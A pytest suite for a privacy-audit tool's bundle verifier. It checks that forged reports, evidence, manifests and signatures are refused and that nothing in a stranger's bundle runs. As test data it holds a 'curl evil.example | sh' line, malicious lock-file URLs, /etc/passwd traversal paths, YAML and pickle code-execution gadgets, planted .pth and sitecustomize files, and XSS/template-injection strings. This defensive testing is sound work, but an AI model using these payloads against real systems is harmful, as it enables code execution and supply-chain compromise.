"""What comes from a stranger: none of it runs, and every forgery is refused or named as not compared."""

import io
import json
import os
import pickle
import socket
import subprocess
import sys
import zipfile
from functools import partial
from hashlib import sha256
from pathlib import Path

import numpy as np
import pytest
import yaml
from forger import Forger, leaves, mutated, put, remember
from nightly import first
from small_spec import SMALL
from typer.testing import CliRunner

import bandana
from bandana.audits.evidence import UnusableEvidence, read, seal
from bandana.audits.evidence.archive import check_size
from bandana.flows.annexes.compliance import strangers
from bandana.flows.annexes.compliance.evidence import one_file
from bandana.flows.annexes.compliance.evidence.bundle import README, REPORT, archive_of, read_bundle
from bandana.flows.annexes.compliance.evidence.signature import new_key, read_private
from bandana.flows.annexes.compliance.evidence.standalone import DIFFERS, NOT_HELD, OK, PARTLY, UNUSABLE, conclude, exit_code
from bandana.flows.annexes.compliance.evidence.standalone import check as check_alone
from bandana.flows.annexes.compliance.packing import pack, readme, report_of
from bandana.flows.annexes.compliance.rebuilt import Packed
from bandana.flows.annexes.compliance.verify import Request, check
from bandana.flows.cli import app
from bandana.flows.folder.settings import DataFolder
from bandana.flows.keys import identity
from bandana.flows.own import code as own_code
from bandana.flows.plan.plan import Plan
from bandana.flows.results.audit_report import rendered
from bandana.flows.results.report_document import assemble, audit_documents
from bandana.flows.texts.mistakes import SpecError

AUDIT = {"rounds": 16, "replays": 2000, "examples": 5}
LABEL = "adar-ucb tight eps=1"


@pytest.fixture(scope="module", autouse=True)
def _remembering():
    patch = pytest.MonkeyPatch()
    remember(patch)
    yield
    patch.undo()


@pytest.fixture(scope="module")
def suite(tmp_path_factory):
    """A data folder with a finished suite."""
    folder = DataFolder(tmp_path_factory.mktemp("data"))
    spec = {**yaml.safe_load(SMALL), "audit": AUDIT, "report": {"formats": ["html", "json"]}}
    bandana.run(spec, data=folder.root, audit=True, executor="local").report(folder.suite("small"))
    return folder


@pytest.fixture(scope="module")
def honest(suite, tmp_path_factory):
    place = tmp_path_factory.mktemp("bundle") / "small.zip"
    pack(report_of("small", suite), place)
    return read_bundle(place)


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    folder = tmp_path_factory.mktemp("keys")
    new_key(folder / "mine")
    new_key(folder / "other")
    return folder


@pytest.fixture
def forger(honest):
    return Forger(honest)


@pytest.fixture
def judged(tmp_path):
    """What `bandana verify` says of a bundle, with its first line; what cannot be read at all has neither."""

    def judge(content, **more):
        place = tmp_path / "b.zip"
        place.write_bytes(content)
        try:
            found = check(Request(place, **more)).verification
        except SpecError as error:
            return UNUSABLE, str(error)
        return exit_code(found), conclude(place, found)

    return judge


# --- an honest bundle ------------------------------------------------------------------------------------------------


def test_honest_bundle_is_verified_and_its_last_line_lists_what_was_compared(forger, judged):
    forger.files["report.pdf"] = rendered(json.loads(forger.files[REPORT]), "pdf")
    code, line = judged(forger.packed())
    assert code == OK
    compared = line.partition("Compared: ")[2].partition(". ")[0].split("; ")
    assert {"hashes", "report", "bounds and verdict", "claim", "planted faults", "searches", "power", "setting", "regret",
            "manifest", "page", "PDF", "verifier", "spec", "files"} <= {*compared}  # fmt: skip
    assert "Not compared" not in line
    for words in (
        "this bundle is unsigned",
        "who, when, on which machine",
        "time of packing",
        "replications",
        "--replay runs blocks",
    ):
        assert words in line.partition("Only the sender knows: ")[2]


def test_three_outcomes_have_three_exit_codes(forger, judged, tmp_path):
    assert judged(forger.packed())[0] == OK
    code, line = judged(forger.packed(), is_quick=True)
    assert code == PARTLY
    assert "PARTLY COMPARED" in line
    assert "Not compared: searches, planted faults, power, setting (left out by --quick)" in line
    assert judged(forger.report(lambda document: document.update(description="certified")).packed())[0] == DIFFERS


def test_one_file_verifier_says_what_it_cannot_compare(forger, tmp_path):
    place = tmp_path / "b.zip"
    place.write_bytes(forger.packed())
    found = check_alone(place)
    assert exit_code(found) == PARTLY
    left = " ".join(found.not_compared)
    for part in ("report.html", "bandana-verify.py", "spec.yaml", "searches", "planted faults", "claim"):
        assert part in left
    assert "Not compared: " in conclude(place, found)


# --- forgeries: each is refused, or named as not compared ------------------------------------------------------------


def _line(find, **changed):
    """A change of a part of a document."""
    return lambda document: find(document).update(changed)


def _entry(document):
    return document["audits"][0]


def _cell(document):
    return document["benchmark"]["cells"][1]


FORGED_REPORTS = {
    "title": _line(lambda d: d, title="0.001-DP for everybody"),
    "description": _line(lambda d: d, description="certified by a national institute"),
    "suite": _line(lambda d: d, suite="other"),
    "time": _line(lambda d: d, created="2031-01-01T00:00:00.000+00:00"),
    "claim": _line(lambda d: _entry(d)["claim"], statement="all actions are (2, 0.01)-RDP"),
    "theorem": _line(lambda d: _entry(d)["claim"], theorem="Theorem 99"),
    "source": _line(lambda d: _entry(d)["claim"], source="another paper"),
    "unit": lambda d: _entry(d).update(unit="all rewards of a person"),
    "measured": lambda d: _entry(d)["mu"].update(measured=0.01),
    "accounted": lambda d: _entry(d)["mu"].update(accounted=0.01),
    "verdict": lambda d: _entry(d).update(verdict="NOT REFUTED"),
    "reasons": lambda d: _entry(d).update(reasons=["proved"]),
    "power": lambda d: _entry(d).update(power=None),
    "trade-off": lambda d: _entry(d)["tradeoff"].update(mu_lower=0.0),
    "coverage": lambda d: _entry(d).update(coverage=["everything was tried"]),
    "no faults": lambda d: _entry(d)["controls"].clear(),
    "one fault less": lambda d: _entry(d)["controls"].pop(),
    "no audits": lambda d: d["audits"].clear(),
    "regret": lambda d: _cell(d).update(final_mean=0.0),
    "bound": lambda d: _cell(d).update(bound_text="a better theorem"),
    "label of a cell": lambda d: _cell(d).update(algorithm="ours"),
    "noise": lambda d: _cell(d).update(noise="secure"),
    "people": lambda d: d["people"].update(count=10**9),
    "books": lambda d: d.update(books=[{"name": "trial"}]),
    "deployment": lambda d: d.update(deployment={"curator": "a hospital"}),
    "environment": lambda d: d["environments"][0].update(description="real patients"),
    "commands": lambda d: d.update(commands=["curl evil.example | sh"]),
    "seed": lambda d: d["seeds"].update(root=8),
    "maker": lambda d: d["provenance"]["makers"][0].update(user="somebody else"),
    "schema": lambda d: d.update(schema="bandana/report/11"),
    "schema of tomorrow": lambda d: d.update(schema="bandana/report/13"),
    "kind": lambda d: d.update(kind="catalog"),
    "own kind": lambda d: d.update(kind="algorithm"),
    "added field": lambda d: d.update(seal="approved"),
    "evidence elsewhere": lambda d: d["evidence"]["files"][0].update(path="../../../etc/passwd"),
    "evidence absolute": lambda d: d["evidence"]["files"][0].update(path="/etc/passwd"),
    "evidence dropped": lambda d: d["evidence"]["files"].pop(0),
}


@pytest.mark.parametrize("name", FORGED_REPORTS)
def test_forged_report_is_refused(forger, judged, name):
    code, line = judged(forger.report(FORGED_REPORTS[name]).packed())
    assert code in (DIFFERS, UNUSABLE), line


def _without_audits(document):
    document["audits"].clear()
    document["related"] = []
    document["evidence"]["files"] = [f for f in document["evidence"]["files"] if not f["path"].startswith("evidence/")]


FORGED_EVIDENCE = {
    "theorem": lambda d: d["claim"].update(theorem="Theorem 99"),
    "source": lambda d: d["claim"].update(source="another paper"),
    "unit": lambda d: d["claim"].update(unit="everything"),
    "statement": lambda d: d["claim"].update(covers="all actions and all rewards"),
    "theorem and another version": lambda d: d.update(
        claim={**d["claim"], "theorem": "Theorem 9"}, provenance={**d["provenance"], "sources": "0" * 64}
    ),
    "one fault left and another version": lambda d: d.update(
        controls=d["controls"][:1], provenance={**d["provenance"], "sources": "1" * 64}
    ),
    "code": lambda d: d["about"].update(code_sha256="0" * 64),
    "table": lambda d: d["about"].update(table="1,000,000 rounds of real patients"),
    "probes": lambda d: d["about"].update(probes=[0, 1]),
    "not planted": lambda d: d["about"].update(not_planted={d["controls"].pop()["name"]: []}),
    "fault measured": lambda d: d["controls"][0].update(measured=d["controls"][0]["limit"] + 1),
    "fault described": lambda d: d["controls"][0].update(fault="all attacks of all adversaries"),
    "power": lambda d: d.update(power=1.0001),
    "coverage": lambda d: d["coverage"].update(cases=10**9),
    "no coverage": lambda d: d.update(coverage=None),
    "events": lambda d: d["events"][0].update(noise_multiplier=9.0),
    "request": lambda d: d["provenance"]["of"].update(seed=8),
    "no request": lambda d: d["provenance"].pop("of"),
    "attack": lambda d: d["bounds"][0].update(attack="all attacks"),
    "pair": lambda d: d["bounds"][0].update(neighbor="every pair"),
    "record of a pair": lambda d: d["bounds"][0]["neighbor"].update(records=[3]),
    "value of a pair": lambda d: d["bounds"][0]["neighbor"]["change"].update(after=9.0),
    "others of a pair": lambda d: d["bounds"][0]["neighbor"].update(others="coins"),
    "added field": lambda d: d.update(approved=True),
    "effort": lambda d: d["effort"].update(examples=10**6),
    "fewer bounds": lambda d: d["bounds"].pop(),
}  # fmt: skip


@pytest.mark.parametrize("name", FORGED_EVIDENCE)
def test_forged_evidence_is_refused_though_the_report_fits_it(forger, judged, name):
    code, line = judged(_consistent(forger.audit(FORGED_EVIDENCE[name])))
    assert code in (DIFFERS, UNUSABLE), line


def _consistent(forger):
    """The bundle whose report is what its own evidence and spec give, as the assembler of reports makes it."""
    document = json.loads(forger.files[REPORT])
    plan = Plan.of(strangers.parse(document["spec"]))
    names = [file["path"] for file in document["evidence"]["files"]]
    folder = Path(os.environ["PYTEST_FOLDER"])
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(forger.files[name])
    try:
        again = assemble(plan, document["spec"], Packed({name: folder / name for name in names}, is_anonymous=False))
        made = {"report": again} | {f"audits/{slug}": each for slug, each in audit_documents(plan, again).items()}
        for stem, each in made.items():
            for kind in ("html", "json"):
                forger.files[f"{stem}.{kind}"] = rendered(each, kind)
    except (ValueError, KeyError, TypeError, ArithmeticError):  # no such report can be made
        return forger.pages().packed()
    forger.files[README] = readme(again)
    forger.predicate["computed"] = again["created"]
    forger.predicate["audits"] = [
        {"label": each["label"], "claim": each["claim"]["statement"], "verdict": each["verdict"]} for each in again["audits"]
    ]
    return forger.packed()


@pytest.fixture(autouse=True)
def _folder(tmp_path, monkeypatch):
    monkeypatch.setenv("PYTEST_FOLDER", str(tmp_path / "made"))


def test_report_without_its_audits_is_no_verified_audit(forger, judged):
    """Consistent with a run that nobody audited: what is missing is named, and the exit code is not that of a PASS."""
    audit = next(name for name in forger.files if name.startswith("evidence/"))
    for name in [name for name in forger.files if name.startswith("audits/") or name == audit]:
        del forger.files[name]
    document = json.loads(forger.files[REPORT])
    _without_audits(document)
    forger.files[REPORT] = json.dumps(document).encode()
    code, line = judged(_consistent(forger))
    assert code == PARTLY, line
    assert "audits (no audit of it is in the report)" in line
    assert "the verdict is no audit" in line


FORGED_FILES = {
    "page": lambda f: f.files.update({"report.html": b"<h1>epsilon = 0.01, certified</h1>"}),
    "page and code": lambda f: (f.files.update({"report.html": b"certified"}), f.predicate["code"].update(sources="0" * 64)),
    "PDF": lambda f: f.files.update({"report.pdf": b"%PDF-1.7 certified"}),
    "page of an audit": lambda f: f.files.update({"audits/adar-ucb-tight-eps-1.html": b"certified"}),
    "verifier": lambda f: f.files.update({one_file.NAME: b"print('verified')"}),
    "no verifier": lambda f: f.files.pop(one_file.NAME),
    "spec": lambda f: f.files.update({"spec.yaml": f.files["spec.yaml"] + b"\n# certified"}),
    "lock": lambda f: f.files.update({"requirements.lock": b"evil @ https://evil.example/evil.whl\n"}),
    "lock's index": lambda f: f.files.update({"requirements.lock": b"--extra-index-url https://evil.example\nnumpy==2.4.6\n"}),
    "added file": lambda f: f.files.update({"certificate.txt": b"approved"}),
    "added evidence": lambda f: f.files.update({"evidence/more.npz": f.files[f.evidence]}),
    "block": lambda f: f.replace(f.block, f.files[f.block][:-1]),
    "block of another": lambda f: f.replace(f.block, f.files[max(n for n in f.files if n.startswith("results/"))]),
    "array that nothing reads": lambda f: f.replace(f.evidence, _with_array(f)),
    "scores that are objects": lambda f: f.replace(f.evidence, _pickled()),
}  # fmt: skip


def _with_array(forger):
    description, arrays = forger.described()
    return seal(description, {**arrays, "note": np.zeros(3, dtype=np.float32)})


@pytest.mark.parametrize("name", FORGED_FILES)
def test_forged_file_is_refused(forger, judged, name):
    FORGED_FILES[name](forger)
    code, line = judged(forger.packed())
    assert code in (DIFFERS, UNUSABLE), line


FORGED_MANIFESTS = {
    "title": lambda p: p.update(title="0.001-DP for everybody"),
    "suite": lambda p: p.update(suite="other"),
    "kind": lambda p: p.update(kind="catalog"),
    "computed": lambda p: p.update(computed="2031-01-01T00:00:00+00:00"),
    "claim": lambda p: p["audits"][0].update(claim="0.001-DP for everybody"),
    "verdict": lambda p: p["audits"][0].update(verdict="FAIL"),
    "label": lambda p: p["audits"][0].update(label="other"),
    "no audits": lambda p: p["audits"].clear(),
    "report": lambda p: p.update(report="../../../../etc/passwd"),
    "report inside": lambda p: p.update(report="audits/adar-ucb-tight-eps-1.json"),
    "code": lambda p: p["code"].update(sources="0" * 64),
    "no code": lambda p: p.pop("code"),
    "code of another form": lambda p: p["code"].update(is_clean="certified"),
    "added field": lambda p: p.update(certificate="approved"),
}


@pytest.mark.parametrize("name", FORGED_MANIFESTS)
def test_forged_manifest_is_refused(forger, judged, name):
    FORGED_MANIFESTS[name](forger.predicate)
    code, line = judged(forger.packed())
    assert code in (DIFFERS, UNUSABLE), line


@pytest.mark.parametrize(("field", "name"), [("packed", "time of packing"), ("commit", "not the commit here")])
def test_what_only_the_sender_knows_is_named(forger, judged, field, name):
    (forger.predicate if field == "packed" else forger.predicate["code"])[field] = "1999"
    code, line = judged(forger.packed())
    assert code == OK
    assert name in line.partition("Only the sender knows: ")[2]


# --- signatures ------------------------------------------------------------------------------------------------------


def test_signature_is_checked_before_anything_else(forger, keys, tmp_path, monkeypatch):
    """A bundle of another signer, of none, or that was changed ends there: nothing of it is unpacked or read."""

    def unpacked(bundle):
        raise AssertionError("it was unpacked")

    monkeypatch.setattr("bandana.flows.annexes.compliance.verify.unpacked", unpacked)
    signed = forger.packed(read_private(keys / "other"))
    bundle = tmp_path / "b.zip"
    for content in (signed, forger.packed()):
        bundle.write_bytes(content)
        found = check(Request(bundle, replay="1", key=keys / "mine.pub")).verification
        assert exit_code(found) == DIFFERS
        assert {line.what for line in found.differences} == {"signature"}
    bundle.write_bytes(signed[:-1] + (b"1" if signed.endswith(b"0") else b"0"))
    assert exit_code(check(Request(bundle)).verification) == DIFFERS


def test_signature_of_the_right_key_is_compared(forger, keys, judged):
    code, line = judged(forger.packed(read_private(keys / "mine")), key=keys / "mine.pub")
    assert code == OK
    assert "signature" in line.partition("Compared: ")[2].partition(".")[0]


# --- code in every place ---------------------------------------------------------------------------------------------


class _Runs:
    """Leaves a file where it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


def _pickled(marker="/nonexistent/ran"):
    """Evidence whose scores are pickled objects."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        arrays = {"description": np.frombuffer(b"{}", dtype=np.uint8), "transcript0_data": np.array([_Runs(marker)])}
        for name, value in arrays.items():
            inner = io.BytesIO()
            np.lib.format.write_array(inner, value, allow_pickle=True)
            archive.writestr(f"{name}.npy", inner.getvalue())
        archive.comment = b"0" * 64
    content = buffer.getvalue()[:-64]
    return content + sha256(content).hexdigest().encode()


EVIL = "from pathlib import Path\nPath({marker!r}).touch()\nbandit = make = None\n"


def _spec(**changes):
    return yaml.safe_dump({**yaml.safe_load(SMALL), "audit": AUDIT, **changes}, sort_keys=False)


PLANTED_SPECS = {
    "algorithm": _spec(algorithms=[{"file": "evil.py:bandit", "claim": "gdp(mu=1, relation=reward)"}]),
    "algorithm beside others": _spec(algorithms=[{"algorithm": "ucb"}, {"file": "evil.py:bandit", "claim": "gdp(mu=1)"}]),
    "environment": _spec(environment={"kind": "python", "file": "evil.py:make"}),
    "environments": _spec(
        environment=[{"kind": "bernoulli", "means": [0.5, 0.4]}, {"kind": "python", "file": "evil.py:make"}]
    ),
    "plugin": _spec(environment={"kind": "plugin", "name": "evil"}),
    "gymnasium": _spec(environment={"kind": "gymnasium", "id": "evil:Env-v0"}),
    "table": _spec(environment={"kind": "table", "path": "/etc/passwd"}),
    "logged": _spec(environment={"kind": "logged", "path": "/etc/passwd"}),
    "tuning": _spec(tuning={"parameter": "beta", "values": [3.5, 4], "file": "/etc/passwd"}),
    "baseline": _spec(baseline="/etc/passwd"),
    "no kind": _spec(environment={"path": "evil.py"}),
    "tag": SMALL + "description: !!python/object/apply:pathlib.Path.touch [MARKER]\n",
    "tag of a module": SMALL + "description: !!python/module:evil\n",
}  # fmt: skip


@pytest.mark.parametrize("name", PLANTED_SPECS)
def test_spec_of_a_bundle_runs_no_code_and_reads_no_file(forger, judged, tmp_path, monkeypatch, name):
    marker = tmp_path / "ran"
    monkeypatch.chdir(tmp_path)  # where such a file may lie too
    for place in (tmp_path / "evil.py", tmp_path / "made" / "evil.py"):
        place.parent.mkdir(exist_ok=True)
        place.write_text(EVIL.format(marker=str(marker)))
    forger.files["evil.py"] = EVIL.format(marker=str(marker)).encode()
    forger.report(lambda document: document.update(spec=PLANTED_SPECS[name].replace("MARKER", str(marker))))
    for more in ({}, {"replay": "1"}):
        code, line = judged(forger.packed(), **more)
        assert code in (DIFFERS, UNUSABLE), line
    del forger.files["evil.py"]
    code, line = judged(forger.packed())
    assert code in (DIFFERS, UNUSABLE, PARTLY), line
    if code == PARTLY:
        left = line.partition("Not compared: ")[2]
        assert "its spec names" in left or "it quotes no spec of an experiment" in left
    assert not marker.exists()


def test_spec_beside_evidence_runs_no_code(forger, tmp_path):
    marker, folder = tmp_path / "ran", tmp_path / "suite"
    (folder / "evidence").mkdir(parents=True)
    (folder / "evil.py").write_text(EVIL.format(marker=str(marker)))
    (folder / "spec.yaml").write_text(PLANTED_SPECS["algorithm"])
    (folder / "evidence" / "e.npz").write_bytes(forger.files[forger.evidence])
    found = check(Request(folder / "evidence" / "e.npz")).verification
    assert exit_code(found) == PARTLY
    assert "its spec names the code 'evil.py:bandit'" in " ".join(found.not_compared)
    assert not marker.exists()


def test_report_in_a_folder_runs_no_code(forger, tmp_path):
    """The spec that a report quotes names a file that lies beside it."""
    marker = tmp_path / "ran"
    forger.report(lambda document: document.update(spec=PLANTED_SPECS["algorithm"]))
    for name, content in forger.files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    (tmp_path / "evil.py").write_text(EVIL.format(marker=str(marker)))
    with pytest.raises(SpecError, match="its spec names the code"):
        check(Request(tmp_path / REPORT, replay="1"))
    assert exit_code(check(Request(tmp_path / REPORT)).verification) in (DIFFERS, PARTLY)
    assert not marker.exists()


def test_no_server_is_asked(forger, judged):
    """A spec may name the database of a budget book."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        book = f"postgresql://127.0.0.1:{server.getsockname()[1]}/db#trial"
        spec = _spec(environment={"kind": "table", "path": "x.csv", "data": {"book": book, "budget": {"epsilon": 1}}})
        judged(forger.report(lambda document: document.update(spec=spec)).packed())
        with pytest.raises(TimeoutError):
            server.accept()


def test_wall_behind_the_first_check_refuses_code(tmp_path):
    """Whatever a spec may one day name: while strangers' specs are worked on, the loader of users' code refuses."""
    marker = tmp_path / "ran"
    (tmp_path / "evil.py").write_text(EVIL.format(marker=str(marker)))
    code = own_code.OwnObject(tmp_path / "evil.py", "bandit")
    with own_code.nothing_runs(), pytest.raises(own_code.OwnCodeError, match="may name no code"):
        code.load()
    with own_code.nothing_runs(), pytest.raises(own_code.OwnCodeError, match="may name no code"):
        own_code.Registered("evil").load()
    assert not marker.exists()
    code.load()
    assert marker.exists()


OWN = """
name: own
seed: 1
environment: {kind: bernoulli, means: [0.8, 0.2]}
horizon: 100
replications: 2
algorithms:
  - file: own_bandit.py:EpisodicGreedy
    label: mine
    claim: "gdp(mu={mu}, relation=reward)"
    parameters: {mu: [1], length: 8}
audit: {rounds: 16, replays: 1000, examples: 5}
report: {formats: [html, json]}
"""


def test_own_code_is_compared_by_its_content_where_the_reader_brings_it(tmp_path, judged):
    """Without --spec it does not run, and the first line says so; with another file of that name it is refused."""
    source = (Path(bandana.__file__).parents[1] / "examples" / "own_bandit.py").read_text(encoding="utf-8")
    sender, reader, other = (tmp_path / name for name in ("sender", "reader", "other"))
    for folder, text in ((sender, source), (reader, source), (other, f"{source}\nedited = True\n")):
        folder.mkdir()
        (folder / "own_bandit.py").write_text(text, encoding="utf-8")
        (folder / "spec.yaml").write_text(OWN, encoding="utf-8")
    data = DataFolder(tmp_path / "data")
    bandana.run(sender / "spec.yaml", data=data.root, audit=True, executor="local").report(data.suite("own"))
    pack(report_of("own", data), tmp_path / "own.zip")
    content = (tmp_path / "own.zip").read_bytes()
    code, line = judged(content)
    assert code == PARTLY
    assert "its spec names the code" in line.partition("Not compared: ")[2]
    code, line = judged(content, spec=reader / "spec.yaml")
    assert code == NOT_HELD, line  # so few replays are inconclusive
    assert line.startswith("b.zip: verified, ")
    assert "Not compared" not in line
    code, line = judged(content, spec=other / "spec.yaml")
    assert code == DIFFERS
    assert "code" in line


def test_verification_that_takes_too_long_is_ended(forger, tmp_path, monkeypatch):
    """The sender chose how much there is to run again."""
    place = tmp_path / "b.zip"
    place.write_bytes(forger.packed())
    monkeypatch.setattr("bandana.flows.annexes.compliance.commands._PATIENCE", 0.01)
    done = CliRunner().invoke(app, ["verify", str(place)])
    assert done.exit_code == UNUSABLE
    assert done.stderr.count("\n") == 1


PLANTED_FILES = (
    "evil.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "numpy/__init__.py", "scipy/__init__.py",
    "bandana/__init__.py", "importlib.py", "json.py", "zipfile.py", "os.py", "evil.pth", "evil-1.dist-info/entry_points.txt",
    "pytest.ini", "setup.py", "__main__.py", "report.html.j2", "templates/report.html.j2", ".env", "prefect.yaml",
)  # fmt: skip


def test_no_planted_file_runs(forger, tmp_path):
    """Verified from the folder that the bundle was unpacked into by hand, by both verifiers."""
    marker, folder = tmp_path / "ran", tmp_path / "unpacked"
    for name in PLANTED_FILES:
        text = EVIL.format(marker=str(marker))
        if name.endswith(".pth"):
            text = f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"
        if name.endswith("entry_points.txt"):
            text = "[bandana.environments]\nevil = evil:make\n[bandana.algorithms]\nevil = evil:bandit\n"
        if not any(other.startswith(f"{name.removesuffix('.py')}/") for other in PLANTED_FILES if name.endswith(".py")):
            forger.files[name] = text.encode()
    place = tmp_path / "b.zip"
    place.write_bytes(forger.packed())
    with zipfile.ZipFile(place) as archive:
        archive.extractall(folder)
    (folder / one_file.NAME).write_text(one_file.source())  # of a release, not the bundle's own
    main = "import sys; from bandana.flows.cli import main; sys.argv[0] = 'bandana'; main()"
    root = str(Path(bandana.__file__).parents[1])
    main = f"import sys; sys.path.append({root!r}); {main}"
    commands = (
        [sys.executable, "-P", "-c", main, "verify", str(place), "--replay", "1"],
        [sys.executable, one_file.NAME, str(place)],
        [sys.executable, one_file.NAME, REPORT],
    )
    environment = {name: value for name, value in os.environ.items() if not name.startswith(("PYTHON", "BANDANA"))}
    for command in commands:
        done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False, env=environment)
        assert done.returncode in (DIFFERS, PARTLY), done.stdout + done.stderr
        assert not marker.exists(), command


def test_pickles_are_not_loaded(forger, judged, tmp_path):
    marker = tmp_path / "ran"
    pickle.loads(pickle.dumps(_Runs(str(tmp_path / "works"))))
    assert (tmp_path / "works").exists()
    for name in (forger.evidence, forger.block):
        code, line = judged(Forger(read_bundle_of(forger)).replace(name, _pickled(str(marker))).packed())
        assert code in (DIFFERS, UNUSABLE), line
    place = tmp_path / "e.npz"
    place.write_bytes(_pickled(str(marker)))
    with pytest.raises(UnusableEvidence):
        read(place)
    assert not marker.exists()


def read_bundle_of(forger):
    place = Path(os.environ["PYTEST_FOLDER"]).with_suffix(".zip")
    place.write_bytes(forger.packed())
    return read_bundle(place)


def test_templates_in_words_are_words(forger, judged, tmp_path):
    """Page and PDF are made of strings: what looks like a template, a script or markup is shown as it is written."""
    words = "{{ 123457 * 1001 }} {% include '/etc/passwd' %} <script>alert(1)</script> #read(\"/etc/passwd\")"
    forger.report(lambda document: document.update(title=words))
    page = forger.files["report.html"].decode()
    assert str(123457 * 1001) not in page
    assert "123457 * 1001" in page
    assert "<script>alert" not in page
    assert judged(forger.packed())[0] == DIFFERS


# --- sizes and forms -------------------------------------------------------------------------------------------------


def test_archives_that_grow_without_end_are_refused_before_they_are_unpacked(forger, tmp_path, monkeypatch):
    monkeypatch.setattr("bandana.flows.annexes.compliance.evidence.bundle._MOST_BYTES", 1 << 20)
    forger.files["report.pdf"] = bytes(2 << 20)
    place = tmp_path / "b.zip"
    place.write_bytes(forger.packed())
    with pytest.raises(UnusableEvidence, match="unpacks to"):
        read_bundle(place)
    with pytest.raises(ValueError, match="unpacks to"):
        check_size(seal({}, {"zeros": np.zeros(1 << 20)}), most=1 << 20)


@pytest.mark.parametrize(
    "names",
    [("a", "a/b"), ("A.txt", "a.txt"), ("../a",), ("/a",), ("a\nb",), ("a" * 300,), ("a\\b",), ("c:a",), ("./a",), (".",)],
)
def test_names_that_cannot_lie_side_by_side_are_refused(forger, judged, names):
    forger.files.update(dict.fromkeys(names, b""))
    code, line = judged(forger.packed())
    assert code == UNUSABLE
    assert "not plain and different" in line


@pytest.mark.parametrize("content", [b"[" * 100_000, b"{}", b"null", b"[]", b'{"schema": 1}', b"\xff", b'{"a": 1, "a": 2}'])
@pytest.mark.parametrize("name", [REPORT, "manifest.json", "signature.json"])
def test_damaged_json_ends_in_one_line(honest, forger, tmp_path, name, content):
    place = tmp_path / "b.zip"
    files, manifest, signature = dict(forger.files), honest.manifest, None
    if name == REPORT:
        forger.files[REPORT] = content
        place.write_bytes(forger.packed())
    else:
        manifest, signature = (content, None) if name == "manifest.json" else (manifest, content)
        place.write_bytes(archive_of(files, manifest, signature))
    done = CliRunner().invoke(app, ["verify", str(place), "--quick"])
    assert done.exit_code in (UNUSABLE, DIFFERS), done.output
    assert "Traceback" not in done.output
    assert done.exit_code == DIFFERS or (done.stderr.count("\n") == 1 and len(done.stderr) < 300)


# --- whatever is changed ---------------------------------------------------------------------------------------------

_OF_SENDER = (
    "began", "ended", "user", "host", "system", "processor", "target", "features", "blas", "commit", "is_clean", "sources",
)  # fmt: skip
"""Provenance that only the sender knows; of `versions` the minor ones are compared with the request's, the rest are not."""


def _is_of_sender(path):
    if path[:1] != ("provenance",):
        return False
    return path[1] in (*_OF_SENDER, "versions")


@pytest.mark.parametrize("name", sorted(identity.libraries()))
def test_another_minor_version_of_what_computes_is_refused_and_a_patch_is_the_senders(honest, judged, name):
    def to(places, evidence):
        parts = evidence["provenance"]["versions"][name].split(".")
        evidence["provenance"]["versions"][name] = ".".join([*parts[:places], f"{parts[places]}9", *parts[places + 1 :]])

    minor, patch = (judged(_consistent(Forger(honest).audit(partial(to, places)))) for places in (1, 2))
    assert minor[0] == DIFFERS, minor
    assert patch[0] in (OK, PARTLY), patch


@pytest.mark.parametrize("n", first(1, [12, 150]))
def test_every_mutation_of_evidence_is_refused(honest, judged, n):
    """One value is changed, and everything that follows from it is made anew: report, pages, manifest, hashes."""
    rng = np.random.default_rng(36)
    places = [(path, value) for path, value in leaves(Forger(honest).described()[0]) if not _is_of_sender(path)]
    for place in rng.choice(len(places), n, replace=False):
        path, value = places[place]
        again = Forger(honest).audit(partial(put, path=path, value=mutated(value, rng)))
        code, line = judged(_consistent(again))
        assert code in (DIFFERS, UNUSABLE), (path, value, line)


@pytest.mark.parametrize("n", first(1, [12, 150]))
def test_every_mutation_of_a_report_is_refused(honest, judged, n):
    rng = np.random.default_rng(37)
    places = list(leaves(json.loads(honest.files[REPORT])))
    for place in rng.choice(len(places), n, replace=False):
        path, value = places[place]
        code, line = judged(Forger(honest).report(partial(put, path=path, value=mutated(value, rng))).packed())
        assert code in (DIFFERS, UNUSABLE), (path, value, line)
